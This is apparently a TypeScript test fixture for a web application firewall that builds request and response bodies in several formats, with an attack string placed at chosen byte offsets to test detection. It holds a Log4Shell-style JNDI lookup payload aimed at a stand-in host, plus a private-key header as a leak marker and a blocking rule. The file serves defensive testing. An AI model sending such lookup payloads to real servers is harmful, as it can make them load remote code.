// Bodies of every type, of harmless records and one attack that begins at a chosen byte.
import zlib from "node:zlib";
import { randomNumbers } from "../../bench/payloads.ts";

export const BODY_TYPES = [
  ...["json", "ndjson", "form", "multipart field", "multipart file", "xml", "graphql", "text"],
  ...["json in gzip", "json in deflate"],
] as const;
export type BodyType = (typeof BODY_TYPES)[number];
export const POSITIONS = [
  ...["first", "middle", "last", "across a border"],
  ...["at 4,097", "at 131,073", "at 10 MiB"],
] as const;
export type Position = (typeof POSITIONS)[number];
export type Direction = "request" | "response";

/** Found anywhere in a text; none of its bytes needs an escape in any of the formats but the form. */
const ATTACKS = {
  request: { text: "${jndi:ldap://evil.example/a}", rule: "wg-jndi-001" },
  response: { text: "-----BEGIN RSA PRIVATE KEY-----", rule: "wg-resp-004" },
} as const;

/** Of files the shipped rules judge what they are and how they begin; this one looks anywhere. */
export const UPLOAD_RULE = {
  ...{ id: "upload-lookup", name: "Lookup in an uploaded file", on_match: ["block"] },
  tags: { type: "upload", category: "attack_attempt" },
  conditions: [
    {
      operator: "phrase_match",
      parameters: {
        inputs: [{ address: "server.request.body.files_content" }],
        list: [ATTACKS.request.text],
      },
    },
  ],
};

export interface Sample {
  headers: Record<string, string>;
  bytes: Buffer;
  /** The rule that is for the attack. */
  rule: string;
  /** Where in `bytes` the attack begins. */
  attackAt: number;
  /** A reader that has so many bytes has the whole value with the attack; Infinity: not before the body's end. */
  knownAt: number;
}

interface Format {
  type: string;
  responseType?: string;
  head: string;
  before: string;
  after: string;
  separator: string;
  tail: string;
  /** How many bytes behind the value tell that it is whole; none: only the end of the body or of a window. */
  terminator?: number;
  encode?: (text: string) => string;
}

const BOUNDARY = "----wardgate-boundary";
const JSON_FORMAT: Format = {
  ...{ type: "application/json", head: '{"rows":[', before: '{"note":"', after: '"}', separator: "," },
  ...{ tail: "]}", terminator: 1 },
};
const FORMATS: Record<Exclude<BodyType, `${string} in ${string}`>, Format> = {
  json: JSON_FORMAT,
  ndjson: {
    ...{ type: "application/x-ndjson", head: "", before: '{"note":"', after: '"}', separator: "\n" },
    ...{ tail: "\n", terminator: 1 },
  },
  form: {
    ...{ type: "application/x-www-form-urlencoded", head: "", before: "note=", after: "", separator: "&" },
    ...{ tail: "", terminator: 1, encode: (text) => encodeURIComponent(text).replaceAll("%20", "+") },
  },
  "multipart field": {
    ...{ type: `multipart/form-data; boundary=${BOUNDARY}`, head: "", separator: "" },
    before: `--${BOUNDARY}\r\nContent-Disposition: form-data; name="note"\r\n\r\n`,
    ...{ after: "\r\n", tail: `--${BOUNDARY}--\r\n`, terminator: `\r\n--${BOUNDARY}--`.length },
  },
  "multipart file": {
    ...{ type: `multipart/form-data; boundary=${BOUNDARY}`, before: "", after: "", separator: "\n" },
    head: `--${BOUNDARY}\r\nContent-Disposition: form-data; name="f"; filename="n.txt"\r\nContent-Type: text/plain\r\n\r\n`,
    tail: `\r\n--${BOUNDARY}--\r\n`,
  },
  xml: {
    ...{ type: "application/xml", head: '<?xml version="1.0"?>\n<rows>', before: "<note>", after: "</note>" },
    ...{ separator: "", tail: "</rows>" },
    // After its end tag: a comment or CDATA would have gone on with it.
    ...{ terminator: "</note>".length + 1 },
  },
  graphql: {
    ...{ type: "application/graphql", head: "{ ", before: 'note(text: "', after: '") { id }' },
    ...{ separator: " ", tail: " }", terminator: 1 },
  },
  text: { type: "text/plain", head: "", before: "", after: "", separator: "\n", tail: "" },
};

/** What a GraphQL service answers is JSON. */
const GRAPHQL_RESPONSE: Format = {
  ...JSON_FORMAT,
  ...{ type: "application/graphql-response+json", head: '{"data":{"rows":[', tail: "]}}" },
};

const FIXED: Partial<Record<Position, number>> = {
  "at 4,097": 4097,
  "at 131,073": 131_073,
  "at 10 MiB": 10 * 1024 * 1024,
};
/** More than a record takes. */
const RECORD = 400;

/** A body of `type` whose record at `position` is the attack, or a harmless one as long. */
export async function makeSample(
  type: BodyType,
  direction: Direction,
  position: Position,
  isAttack: boolean,
): Promise<Sample> {
  const [base, coding] = type.split(" in ") as [keyof typeof FORMATS, "gzip" | "deflate" | undefined];
  const format = base === "graphql" && direction === "response" ? GRAPHQL_RESPONSE : FORMATS[base];
  const encode = format.encode ?? ((text: string) => text);
  const attack = encode(ATTACKS[direction].text);
  const value = isAttack ? attack : attack.replace(/[^]/g, "a");
  const at =
    FIXED[position] ?? { first: 0, middle: 1500, last: 3000, "across a border": 1500 }[position as "last"];
  const before = head(format, at);
  const rest = position === "last" ? "" : format.separator + records(format, 1200) + format.separator;
  const parts = [
    before,
    value + format.after,
    rest.slice(0, rest.length - format.separator.length) + format.tail,
  ];
  const headers: Record<string, string> = { "content-type": format.type };
  const isUpload = type === "multipart file" && direction === "request";
  const rule = isUpload ? UPLOAD_RULE.id : ATTACKS[direction].rule;
  if (coding === undefined) {
    const attackAt = Buffer.byteLength(parts[0]!);
    const end = attackAt + Buffer.byteLength(value);
    const isKnown =
      format.terminator !== undefined && !(position === "last" && format.tail + format.after === "");
    return {
      ...{ headers, rule, bytes: Buffer.from(parts.join("")), attackAt },
      knownAt: isKnown ? end + format.terminator! : Infinity,
    };
  }
  const { bytes, borders } = await compress(coding, parts);
  headers["content-encoding"] = coding;
  return { headers, rule, bytes, attackAt: borders[0]!, knownAt: borders[1]! };
}

/** Everything before a value that begins at byte `at`, or first when there is no room before it. */
function head(format: Format, at: number): string {
  const { head, before, after, separator } = format;
  const room = at - head.length - before.length - after.length - separator.length;
  // A record of padding, as short as need be, brings the value to its place.
  if (room < before.length) return head + before;
  const filler = room > 3 * RECORD ? records(format, room - RECORD) + separator : "";
  const pad = room - filler.length - before.length;
  return `${head}${filler}${before}${words(pad)}${after}${separator}${before}`;
}

/** Harmless records of about `size` bytes together, never more. */
function records(format: Format, size: number): string {
  const parts: string[] = [];
  let length = 0;
  for (let i = 0; ; i++) {
    const record = format.before + words(RECORD - 200 - (i % 7), i + 1) + format.after;
    if (length + record.length + format.separator.length > size) break;
    parts.push(record);
    length += record.length + format.separator.length;
  }
  return parts.join(format.separator);
}

const WORDS =
  "lamp garden table order paid sent yellow basket house river winter letter music paper window bread".split(
    " ",
  );
const TEXT = makeText(1 << 18);

/** Text without anything that any of the formats escapes; no two records are alike, so that it compresses as text does. */
function words(length: number, record = 0): string {
  const at = (record * 9973) % (TEXT.length - RECORD);
  return TEXT.slice(at, at + length);
}

function makeText(length: number): string {
  const random = randomNumbers(5);
  let text = "";
  while (text.length < length)
    text += `${WORDS[Math.floor(random() * WORDS.length)]}${Math.floor(random() * 100)}.`;
  return text;
}

/** The parts compressed as one stream, and where each of the first two ends in it. */
async function compress(
  coding: "gzip" | "deflate",
  parts: string[],
): Promise<{ bytes: Buffer; borders: number[] }> {
  const stream = coding === "gzip" ? zlib.createGzip({ level: 1 }) : zlib.createDeflate({ level: 1 });
  const pieces: Buffer[] = [];
  stream.on("data", (piece: Buffer) => pieces.push(piece));
  const length = (): number => pieces.reduce((sum, piece) => sum + piece.length, 0);
  const borders: number[] = [];
  for (const part of parts.slice(0, 2)) {
    stream.write(part);
    await new Promise<void>((resolve) => stream.flush(zlib.constants.Z_SYNC_FLUSH, resolve));
    borders.push(length());
  }
  const ended = new Promise((resolve) => stream.once("end", resolve));
  stream.end(parts[2]);
  await ended;
  return { bytes: Buffer.concat(pieces), borders };
}
